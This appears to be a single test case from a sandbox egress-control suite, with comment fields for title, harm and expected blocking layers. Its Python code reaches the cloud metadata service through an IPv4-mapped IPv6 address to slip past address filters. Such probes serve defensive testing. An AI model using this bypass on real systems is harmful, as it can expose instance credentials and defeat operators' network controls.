# title: reaches the metadata service as a mapped IPv6 address
# harm: learns
# egress: public.example:80
# B: seccomp refuses sockets
# C: the gateway reads the IPv4 address in it
s = socket.socket(socket.AF_INET6); s.settimeout(2)
s.connect(('::ffff:169.254.169.254', 80)); s.send(b'GET / HTTP/1.0\r\n\r\n'); print(s.recv(4096))
